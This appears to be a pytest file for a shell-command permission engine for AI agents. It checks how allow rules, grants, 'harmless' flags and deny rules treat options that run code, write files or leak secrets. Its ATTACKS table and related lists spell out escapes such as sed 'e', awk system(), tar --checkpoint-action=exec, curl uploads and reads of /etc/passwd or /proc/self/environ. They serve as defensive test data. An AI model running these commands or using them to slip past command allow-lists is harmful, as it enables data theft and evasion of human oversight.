"""Options that go further than the name of a program: what allow rules, grants, `harmless` and deny rules make of them.

Each case is an attack that was possible, or an entry of the table. That the table tells the truth about the programs is
in `test_shell_options_real.py`.
"""

from __future__ import annotations

import shlex
from datetime import UTC, datetime

import pytest

from holdfast.activities.policy.grants import find_covering_grant
from holdfast.activities.shell.analyze import analyse_command
from holdfast.activities.shell.programs.option_effects import find_effects, list_known_options
from holdfast.activities.shell.programs.program_effects import is_harmless
from holdfast.domain.approvals.approval import Decision, DecisionAction, Scope
from holdfast.domain.approvals.grants import Grant
from holdfast.domain.modes import Mode
from tests.support.policies import load, policy, rule, run, said

ATTACKS: dict[str, tuple[str, str]] = {
    # the command: a rule that names the program alone, and the word by which another rule spells the attack out
    "find . -delete": ("find", "-delete"),
    "find . -name x -fprintf out %p": ("find", "-fprintf"),
    "find . -fls out": ("find", "-fls"),
    "find -files0-from list": ("find", "-files0-from"),
    "sed -n '1e touch x' f": ("sed", "'1e touch x'"),
    "sed -n '1w out' f": ("sed", "'1w out'"),
    "sed 's/a/touch x/e' f": ("sed", "'s/a/touch x/e'"),
    "sed 's/a/b/w out' f": ("sed", "'s/a/b/w out'"),
    "sed -n -e p -e '$r /etc/passwd' f": ("sed", "'$r /etc/passwd'"),
    "sed --expr='1e touch x' f": ("sed", "'--expr=1e touch x'"),
    "sed -ni p f": ("sed", "-ni"),
    "sed -f script f": ("sed", "-f"),
    "git log --output=out": ("git log", "--output=out"),
    "git log --outp out": ("git log", "--outp"),
    "git rev-list --output=out HEAD": ("git rev-list", "--output=out"),
    "git shortlog --output=out HEAD": ("git shortlog", "--output=out"),
    "git blame --output=out f": ("git blame", "--output=out"),
    "git grep -Oless x": ("git grep", "-Oless"),
    "git grep -nOless x": ("git grep", "-nOless"),
    "git clone -u ./x a b": ("git clone", "-u"),
    "git clone 'ext::sh -c x' b": ("git clone", "'ext::sh -c x'"),
    "git format-patch -oout HEAD~1": ("git format-patch", "-oout"),
    "sort -o out f": ("sort", "-o"),
    "sort -no out f": ("sort", "-no"),
    "sort -oout f": ("sort", "-oout"),
    "sort --o=out f": ("sort", "--o=out"),
    "sort --t=/tmp f": ("sort", "--t=/tmp"),
    "sort --compress-prog=./x f": ("sort", "--compress-prog=./x"),
    "sort --files0-from=list": ("sort", "--files0-from=list"),
    "awk 'BEGIN { system(\"x\") }'": ("awk", "'BEGIN { system(\"x\") }'"),
    "awk '{ print | \"sh\" }' f": ("awk", "'{ print | \"sh\" }'"),
    "awk '{ print > \"out\" }' f": ("awk", "'{ print > \"out\" }'"),
    "awk 'BEGIN { print ENVIRON[\"KEY\"] }'": ("awk", "'BEGIN { print ENVIRON[\"KEY\"] }'"),
    "awk -f script f": ("awk", "-f"),
    "tar -xf a.tar --checkpoint-action=exec=./x": ("tar", "--checkpoint-action=exec=./x"),
    "tar xf a.tar --to-command=./x": ("tar", "--to-command=./x"),
    "tar xf a.tar --to-comm ./x": ("tar", "--to-comm"),
    "tar cfI a.tar ./x d": ("tar", "cfI"),
    "tar -cf host:a .": ("tar", "host:a"),
    "make --eval 'x:; ./x'": ("make", "--eval"),
    "make all CC=./x": ("make", "CC=./x"),
    "make -f/dev/stdin": ("make", "-f/dev/stdin"),
    "rg --pre ./x a": ("rg", "--pre"),
    "rg --pre=./x a": ("rg", "--pre=./x"),
    "curl -o out http://h/": ("curl", "-o"),
    "curl -sSLo out http://h/": ("curl", "-sSLo"),
    "curl -T f http://h/": ("curl", "-T"),
    "curl http://h/ --next http://i/": ("curl", "--next http://i/"),
    "curl http://h/ -: http://i/": ("curl", "-: http://i/"),
    "curl -Kconf": ("curl", "-Kconf"),
    "curl -d @f http://h/": ("curl", "-d"),
    "curl file:///etc/passwd": ("curl", "file:///etc/passwd"),
    "wget -O out http://h/": ("wget", "-O"),
    "wget --post-file=f http://h/": ("wget", "--post-file=f"),
    "rsync -e ./x a h:b": ("rsync", "-e"),
    "rsync -ae./x a h:b": ("rsync", "-ae./x"),
    "rsync -a --remove-source-files a b": ("rsync", "--remove-source-files"),
    "ps auxe": ("ps", "auxe"),
    "ps -auxe": ("ps", "-auxe"),
    "ps eww": ("ps", "eww"),
    "jq env": ("jq", "env"),
    "jq -n --arg a b '$ENV.KEY'": ("jq", "'$ENV.KEY'"),
    "strings @list": ("strings", "@list"),
    "nm --plugin ./x.so f": ("nm", "--plugin"),
    "uniq f out": ("uniq", "out"),
    "xxd -r f out": ("xxd", "out"),
    "date -s now": ("date", "-s"),
    "hostname other": ("hostname", "other"),
    "tree -o out": ("tree", "-o"),
    "file -f list": ("file", "-f"),
    "split --filter=./x f": ("split", "--filter=./x"),
    "zip -T -TT ./x a f": ("zip", "'-T' '-TT'"),
    "less +!./x f": ("less", "+!./x"),
    "man -P ./x ls": ("man", "-P"),
    "vim -es -c '!./x' f": ("vim", "-c"),
    "gcc -wrapper ./x a.c": ("gcc", "-wrapper"),
    "gcc -fplugin=./x.so a.c": ("gcc", "-fplugin=./x.so"),
    "gcc @list": ("gcc", "@list"),
    "install -s --strip-program=./x a b": ("install", "-s --strip-program=./x"),
    "python3 -c x": ("python3", "-c"),
    "python3 -m x": ("python3", "-m x"),
    "node -e x": ("node", "-e"),
    "node -r ./x y.js": ("node", "-r"),
    "perl -ne x f": ("perl", "-ne"),
    "pip list --log=out": ("pip list", "--log=out"),
    "npm test --script-shell=./x": ("npm test", "--script-shell=./x"),
    "docker -H tcp://h ps": ("docker", "-H"),
    "docker build -o out .": ("docker build", "-o"),
    "kubectl get pods --kubeconfig=x": ("kubectl get", "--kubeconfig=x"),
    "openssl x509 -in a -out b": ("openssl x509", "-out"),
    "systemctl status -H h": ("systemctl status", "-H"),
    "journalctl --vacuum-time=1s": ("journalctl", "--vacuum-time=1s"),
    "tcpdump -i lo -w out -z ./x": ("tcpdump", "-w -z"),
    "dd if=f of=out": ("dd", "of=out"),
    "sort --unheard-of f": ("sort", "--unheard-of"),
    "git log --unheard-of": ("git log", "--unheard-of"),
    "git unheard-of --x": ("git unheard-of", "--x"),
}  # fmt: skip


def allowing(words: str, *further: str) -> str:
    """A rule on commands."""
    quoted = "'''" + words + "'''"
    return rule("\n".join([f"command = [{quoted}]", *further]))


@pytest.mark.parametrize("command", ATTACKS)
def test_S30_allow_rule_covers_an_option_that_goes_further_only_when_it_spells_it_out(command: str) -> None:
    program, spelled = ATTACKS[command]
    spelling = f"{program} ** {' ** '.join(shlex.quote(word) for word in shlex.split(spelled))}"
    assert said(policy(allowing(program)), run(command)) is None
    assert said(policy(allowing(f"{program} *")), run(command)) is None
    assert said(policy(allowing(spelling)), run(command)) == "allow"
    assert said(policy(allowing(f"{program} **")), run(command)) == "allow"
    assert said(policy(allowing(program, "anything = true")), run(command)) == "allow"


@pytest.mark.parametrize("command", ATTACKS)
def test_S30_what_goes_further_is_not_harmless(command: str) -> None:
    rules = policy(rule("harmless = true"))
    assert said(rules, run(command)) is None


ORDINARY = """
git status; git status -sb; git log --oneline -5 --graph; git diff HEAD~1 --stat -- src; git show --name-only HEAD
git log --since='2 weeks ago' --author ann --format=%h -n 5; git blame -L 1,5 f; git ls-files -om --exclude-standard
git commit -am 'a message'; git add -A; git branch -vv; git checkout -b topic; git push -u origin topic
git fetch --all -p; git stash list; git rev-parse --show-toplevel; git grep -nE 'a|b' -- '*.py'
git merge --no-ff topic; git rebase main; ls -la; cat f; head -5 f; tail -n +5 f; wc -l f; grep -rn x .
grep -rnE --include='*.py' 'a|b' src; diff -u a b; stat f; find . -name x
find . -type f -name '*.py' -not -path './x/*' -maxdepth 3; find . -mtime -1 -size +1k -printf '%p'; sed -n 1,5p f
sed 's/a/b/g' f; sed -E 's#(a|b)#\\1#; /^$/d' f; sed '/a/,/b/{s/x/y/;p}' f; sed '$!N;P;D' f; sed -n '/start/,/end/p' f
sed 's|a|b|w /dev/stdout' f; sed '1a\\ text' f; sed 10q f; awk '{ print $1 }' f; awk -F: '$3 > 5 { print $1 }' f
awk '/a|b/ { n += $2 / 2 } END { print n }' f; awk 'NR==1' f; awk -v x=1 '{ if ($1 > x) print $2, "a > b" }' f
awk '!seen[$0]++' f; awk '{ print > "/dev/stderr" }' f; sort f; sort -rn -k2,2 -t, f; sort --key=2 --numeric-sort -u f
uniq -c f; du -sh .; date +%F; date -u -d yesterday; jq . f; jq -r '.a[] | select(.env == "x") | .name' f
jq --arg a b '.x == $a' f; strings -n 8 f; file f; file -b --mime-type f; rg -n x src; rg -tpy --hidden -C3 'a|b'
tree -L 2 -a; ps aux; ps -ef; ps -eo user,pid,cmd --sort=-rss; ps -p 1 -o pid,user; tar -tf a.tar; tar xzf a.tgz -C d
tar -czvf a.tgz d --exclude=.git; zip -r a.zip d; unzip -l a.zip; gzip -k f; xz -9 f; make; make -j4 test
make -C sub all; make -n; curl -sSfL http://h/; curl -I -H 'Accept: x' http://h/; wget -q http://h/
rsync -avz --exclude=x a b; cp -r a b; mv a b; ln -s a b; install -m 755 a b; gcc -Wall -O2 -g -Iinclude -c a.c
patch -p1 -i f; python3 script.py -c x -o y; node tool.js --out x; pip install -r requirements.txt
npm install --save-dev x; npm run lint; docker ps -a; docker logs -f --tail 50 web; kubectl get pods -n x -o yaml
systemctl status ssh --no-pager; journalctl -u x -n 50 --no-pager; openssl x509 -in a -noout -text
dd if=f bs=1 count=5; split -l 10 f; xxd f; hostname -f
""".replace("\n", "; ").strip("; ")


def commands(text: str) -> list[str]:
    """Cut at semicolons outside quotes."""
    lexer = shlex.shlex(text, posix=False, punctuation_chars=";")
    lexer.whitespace_split, lexer.commenters = True, ""
    found: list[list[str]] = [[]]
    for token in lexer:
        found[-1].append(token) if token != ";" else found.append([])
    return [" ".join(words) for words in found if words]


@pytest.mark.parametrize("command", commands(ORDINARY))
def test_S30_ordinary_options_need_no_spelling(command: str) -> None:
    assert said(policy(allowing(command.split()[0])), run(command)) == "allow"


@pytest.mark.parametrize(("program", "option", "effect", "takes_value"), list_known_options())
def test_S30_every_entry_of_the_table_is_found_however_it_is_written(
    program: str, option: str, effect: str, takes_value: bool
) -> None:
    forms = [[option, "v"]]
    if option.startswith("--"):
        forms += [[f"{option}=v"]]
    elif len(option) == 2 and takes_value:
        forms += [[f"{option}v"]]
    for form in forms:
        command = shlex.join([*program.split(), *form])
        [first, *_] = analyse_command(command).programs
        effects = {one.effect for one in find_effects(first)}
        assert effect in effects or (len(form) == 1 and "unknown" in effects), command
        assert not is_harmless(first)


@pytest.mark.parametrize(
    "command",
    ["cat /proc/self/environ", "cat ../../proc/1/environ", "strings /proc/1/mem", "cd /proc/self", "git branch new"],
)
def test_S30_what_shows_other_programs_is_not_harmless(command: str) -> None:
    assert said(policy(rule("harmless = true")), run(command)) is None


# Deny rules


@pytest.mark.parametrize(
    "command",
    """python3 -c x; perl -e x; ruby -e x; node -e x; node --eval=x; php -r x; lua -e x; deno eval x; echo x | python3
    awk 'BEGIN { system("x") }'; awk '{ print | "sh" }' f; awk -f x f; sed '1e x' f; sed 's/a/b/e' f; sed -f x f
    find . | xargs python3 -c x; vim -c '!x' f; make --eval x; make CC=x; tar xf a --to-command=x; rg --pre x a
    git clone -u x a b; timeout 5 node -e x; uv run python -c x""".replace("\n", "; ").split("; "),
)
def test_S30_inline_code_makes_a_deny_rule_a_perhaps_which_is_asked(command: str) -> None:
    rules = policy(rule('command = "git push"', "deny"), rule("anything = true\nmodes = ['yolo']"))
    assert said(rules, run(command), Mode.YOLO) == "ask"


@pytest.mark.parametrize(
    "command",
    ["python3 x.py", "sed -i s/a/b/ f", "awk '{ print $1 }' f", "python3 -m pytest", "make test", "ls", "rg x"],
)
def test_S30_programs_without_inline_code_are_no_perhaps(command: str) -> None:
    rules = policy(rule('command = "git push"', "deny"), rule("anything = true\nmodes = ['yolo']"))
    assert said(rules, run(command), Mode.YOLO) == "allow"


RUNNERS = (
    """
npx; npx -y; npx --yes --package x; npm exec --; npm x; pnpm exec; pnpm dlx; yarn dlx; bunx; bun x; uvx; uv run
uv run --with x; uv --quiet run --; uv tool run; poetry run; poetry -q run; pdm run
mise x node@20 --; op run --env-file=x --; python3 -um
pipenv run; pipx run; hatch run
conda run -n x; bundle exec; direnv exec .; ip netns exec x; rbenv exec; mise exec --; dotenv run; doppler run --
chronic; /lib64/ld-linux-x86-64.so.2; /lib/ld-musl-x86_64.so.1; ld.so --library-path /lib; timeout 5 npx; sudo uv run
env A=1 poetry run; npx uv run
""".replace("\n", "; ")
    .strip("; ")
    .split("; ")
)


@pytest.mark.parametrize("runner", RUNNERS)
def test_S30_command_of_a_runner_is_judged_by_its_own_words(runner: str) -> None:
    denied = policy(rule('command = ["git push", "rm"]', "deny"))
    assert said(denied, run(f"{runner} git push origin")) == "deny"
    assert said(denied, run(f"{runner} /bin/rm -rf x")) == "deny"
    assert said(denied, run(f"{runner} git status")) is None
    assert said(policy(allowing("git status")), run(f"{runner} git push")) is None


@pytest.mark.parametrize("command", ["npx -c 'git push'", "npm exec -c 'git push'", "npm exec --call='git push'"])
def test_S30_command_line_of_a_runner_is_read(command: str) -> None:
    assert said(policy(rule('command = "git push"', "deny")), run(command)) == "deny"


def test_S30_allow_rule_covers_a_runner_with_the_command_it_names() -> None:
    named = policy(allowing("uv run pytest"))
    assert said(named, run("uv run pytest -x tests")) == "allow"
    assert said(named, run("uv run python -c x")) is None
    assert said(policy(allowing("uv run")), run("uv run pytest")) is None
    assert said(policy(allowing("uv run"), allowing("pytest")), run("uv run pytest")) is None
    assert said(policy(rule('command = ["uv run", "pytest"]')), run("uv run pytest")) == "allow"
    assert said(policy(allowing("pytest")), run("uv run pytest")) is None
    assert said(policy(allowing("uv run **")), run("uv run anything -c x")) == "allow"
    assert said(policy(allowing("uv run sort")), run("uv run sort -o out f")) is None
    assert said(policy(allowing("uv run sort ** -o")), run("uv run sort -n -o out f")) == "allow"
    assert said(policy(allowing("uv run -m pytest")), run("uv run -m pytest -x")) == "allow"
    assert said(policy(allowing("python3 -m pytest")), run("python3 -m pytest -x")) == "allow"
    assert said(policy(allowing("npx uv run pytest")), run("npx uv run pytest -x")) == "allow"
    assert said(policy(allowing("npx uv run")), run("npx uv run pytest")) is None
    assert said(policy(allowing("npx eslint@8")), run("npx eslint@8 src")) == "allow"


def test_S30_unknown_option_of_a_runner_is_a_doubt() -> None:
    assert (
        said(policy(allowing("npx eslint"), rule('command = "git push"', "deny")), run("npx --unheard eslint")) == "ask"
    )


@pytest.mark.parametrize("command", ["git-push -f", "/usr/lib/git-core/git-push origin", "sudo git-push", "git-push"])
def test_S30_program_of_git_is_its_subcommand(command: str) -> None:
    assert said(policy(rule('command = "git push"', "deny")), run(command)) == "deny"


def test_S30_program_of_git_destroys_as_its_subcommand_does() -> None:
    assert said(policy(rule("destructive = true", "deny")), run("git-reset --hard")) == "deny"


# Grants and warnings


def covered(scope: Scope, command: str) -> bool:
    """Does a grant of this scope cover the command?"""
    decision = Decision(approval_id="t/c/1", digest="d", outcome=DecisionAction.PROCEED_ALWAYS, by="ann")
    grant = Grant(id="g1", scope=scope, covers="", decision=decision, given_at=datetime(2030, 1, 1, tzinfo=UTC))
    return find_covering_grant([grant], run(command), "d", datetime(2030, 1, 1, tzinfo=UTC)) is not None


@pytest.mark.parametrize("command", ATTACKS)
def test_S24_grant_covers_what_goes_further_only_in_its_exact_words(command: str) -> None:
    program, _ = ATTACKS[command]
    [first, *_] = analyse_command(command).programs
    exact = " ".join("'" + (word or "").replace("'", "'\\''") + "'" for word in first.words) + " $"
    assert not covered(Scope(tool="shell", server=""), command)
    assert not covered(Scope(tool="shell", server="", command=(program,)), command)
    assert covered(Scope(tool="shell", server="", command=(exact,)), command)


def test_S24_grant_covers_a_runner_in_its_exact_words() -> None:
    assert covered(Scope(tool="shell", server="", command=("uv run pytest -x $",)), "uv run pytest -x")
    assert not covered(Scope(tool="shell", server="", command=("uv run pytest -x $",)), "uv run pytest -x y")


@pytest.mark.parametrize(
    ("words", "warned"),
    [
        ("python3", True), ("python3 **", True), ("/usr/bin/node", True), ("bash", True), ("perl *", True),
        ("npx", True), ("uv run", True), ("uv run **", True), ("npm exec", True), ("**", True),
        ("python3 -m", True), ("python3 -m pytest", False),
        ("python3 tool.py", False),
        ("uv run pytest", False), ("npx eslint", False), ("npm test", False),
    ],
)  # fmt: skip
def test_S29_allow_rules_on_interpreters_and_runners_are_warned_of(words: str, warned: bool) -> None:
    assert bool(load(allowing(words)).warnings) is warned
    assert not load(rule(f'command = "{words}"', "deny")).warnings
